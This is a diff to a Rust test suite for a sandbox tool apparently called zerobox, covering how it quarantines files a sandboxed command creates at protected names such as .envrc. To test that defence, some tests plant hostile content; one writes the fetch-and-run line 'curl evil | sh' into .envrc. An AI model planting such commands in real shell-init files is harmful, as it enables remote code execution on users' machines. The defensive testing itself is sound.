@@ -306,12 +306,14 @@ t("control", lambda: open("{w_}/ok", "w").write("ok"))
 }
 
 /// Threat: create a denied path that does not exist yet inside a writable
-/// directory (plant `D/newsecret`, or files under it), or leave a host-side
-/// placeholder behind. Stopped by: zerobox creates a placeholder before the
-/// run and masks it (read-only empty tmpfs: EROFS inside, EBUSY to remove
-/// or rename it); the placeholder is removed after the run.
+/// directory (plant `D/newsecret`, or files under it), or find a
+/// zerobox-made placeholder in the user's tree. Stopped by: nothing is
+/// created in the user's tree; what the command creates at a protected
+/// name is moved aside after the run (`NAME.zerobox-quarantine-T`) and the
+/// user is told (see docs/threat-model.md, "Protected paths that do not
+/// exist").
 #[test]
-fn denied_missing_path_under_writable_dir_cannot_be_created() {
+fn denied_missing_path_under_writable_dir_is_quarantined() {
     let ds = scratch();
     let d = real(ds.path());
     let wa = format!("--allow-write={}", d.display());
@@ -327,30 +329,29 @@ fn denied_missing_path_under_writable_dir_cannot_be_created() {
         &[&wa, &dr],
         &format!(
             r#"
-t("mkdir_inside", lambda: os.makedirs("{d_}/newsecret/x"))
-t("file_inside", lambda: open("{d_}/newsecret/key", "w").write("pwn"))
-t("write_as_file", lambda: open("{d_}/newsecret", "w").write("pwn"))
-t("rmdir", lambda: os.rmdir("{d_}/newsecret"))
-t("rename", lambda: os.rename("{d_}/newsecret", "{d_}/moved"))
+p("before", sorted(os.listdir("{d_}")))
+t("file", lambda: open("{d_}/newsecret", "w").write("pwn"))
 t("nested", lambda: os.makedirs("{d_}/a/b/c"))
 t("control", lambda: open("{d_}/ok", "w").write("ok"))
 "#
         ),
     );
     assert_eq!(r.code, 0, "{r:?}");
-    expect(&r, "mkdir_inside", "EROFS");
-    expect(&r, "file_inside", "EROFS");
-    expect(&r, "write_as_file", "EISDIR");
-    expect(&r, "rmdir", "EBUSY");
-    expect(&r, "rename", "EBUSY");
-    expect(&r, "nested", "EROFS");
+    expect(&r, "before", "[]");
     expect(&r, "control", "OK");
+    assert!(!d.join("newsecret").exists(), "{r:?}");
+    assert!(!d.join("a/b").exists(), "{r:?}");
+    let names: Vec<String> = std::fs::read_dir(&d)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
     assert!(
-        !d.join("newsecret").exists(),
-        "placeholder or planted entry left on the host"
+        names.iter().any(|n| n.starts_with("newsecret.zerobox-quarantine-")),
+        "{names:?}"
     );
-    assert!(!d.join("a").exists(), "nested placeholder left on the host");
-    assert!(!d.join("moved").exists());
+    assert!(r.stderr.contains(&format!("{d_}/newsecret was created")), "{r:?}");
+    assert!(r.stderr.contains(&format!("{d_}/a/b was created")), "{r:?}");
     assert_eq!(read(&d.join("ok")), "ok");
 }
 
@@ -652,4 +653,99 @@ fn grant_through_a_replaceable_symlink_is_refused() {
     );
     assert_eq!(r3.code, 2, "{r3:?}");
     home.assert_host_intact();
+}
+
+/// Threat (issue: placeholders leak): zerobox's placeholders for missing
+/// protected paths showed in `git status`, were committed by `git add -A`
+/// inside the run, turned `.envrc` or `.git/config` into directories and
+/// stayed after `kill -9`. Stopped by: no placeholder at all. During and
+/// after a run `git status` shows only what the command wrote; a killed
+/// run's creation is quarantined by the next run, which says so.
+#[test]
+fn no_zerobox_artifact_in_the_users_tree_during_after_or_after_kill() {
+    if !crate::common::have("git") {
+        crate::common::skip("no git");
+        return;
+    }
+    let home = Home::new();
+    let h = home.path();
+    let s = scratch();
+    let d = real(s.path());
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .args(args)
+            .current_dir(&d)
+            .env("HOME", &h)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    git(&["init", "-q", "."]);
+    let args = ["--profile", "protect-shell", "--allow-write=."];
+    let r = crate::util::sh(
+        &d,
+        Some(&h),
+        &args,
+        "git status --porcelain --ignored; git add -A; git status --porcelain; echo end",
+    );
+    assert_eq!(r.stdout, "end\n", "zerobox artifacts seen inside: {r:?}");
+    assert_eq!(git(&["status", "--porcelain", "--ignored"]), "", "after");
+    // kill -9 while the command holds a planted .envrc.
+    let mut c = crate::common::zerobox();
+    let mut child = c
+        .current_dir(&d)
+        .env("HOME", &h)
+        .args(args)
+        .args(["--", "sh", "-c", "echo 'curl evil | sh' > .envrc; sleep 30"])
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    assert!(crate::util::wait_until(std::time::Duration::from_secs(10), || d
+        .join(".envrc")
+        .exists()));
+    child.kill().unwrap();
+    child.wait().unwrap();
+    // The next run (any command) finds the killed run's journal.
+    let r = crate::util::sh(&d, Some(&h), &[], "true");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(!d.join(".envrc").exists(), "planted .envrc left active: {r:?}");
+    assert!(r.stderr.contains(".envrc was created by an earlier zerobox run"), "{r:?}");
+    let status = git(&["status", "--porcelain"]);
+    assert!(status.contains(".envrc.zerobox-quarantine-"), "{status}");
+}
+
+/// Threat: two runs in one project at once: on main, A's cleanup removed
+/// the placeholder under B's mask and B then created a real `.envrc` on the
+/// host. Stopped by: no shared placeholder; each run guards the name
+/// itself, and a name created by either is quarantined with a warning.
+#[test]
+fn two_concurrent_runs_cannot_plant_a_protected_path() {
+    let s = scratch();
+    let d = real(s.path());
+    let args = ["--profile", "protect-shell", "--allow-write=."];
+    let mut a = crate::common::zerobox();
+    let a = a
+        .current_dir(&d)
+        .args(args)
+        .args(["--", "sh", "-c", "sleep 2; ls -a; echo 'evil-a' > .envrc"])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let d2 = d.clone();
+    let b = std::thread::spawn(move || {
+        std::thread::sleep(std::time::Duration::from_millis(300));
+        crate::util::sh(&d2, None, &args, "echo 'evil-b' > .envrc; ls -a")
+    });
+    let a = crate::common::Run::from(a.wait_with_output().unwrap());
+    let b = b.join().unwrap();
+    assert_eq!(a.code, 0, "{a:?}");
+    assert_eq!(b.code, 0, "{b:?}");
+    assert!(!d.join(".envrc").exists(), "{a:?}\n{b:?}");
+    let quarantined = std::fs::read_dir(&d)
+        .unwrap()
+        .flatten()
+        .filter(|e| e.file_name().to_string_lossy().starts_with(".envrc.zerobox-quarantine-"))
+        .count();
+    assert!(quarantined >= 1, "{a:?}\n{b:?}");
 }
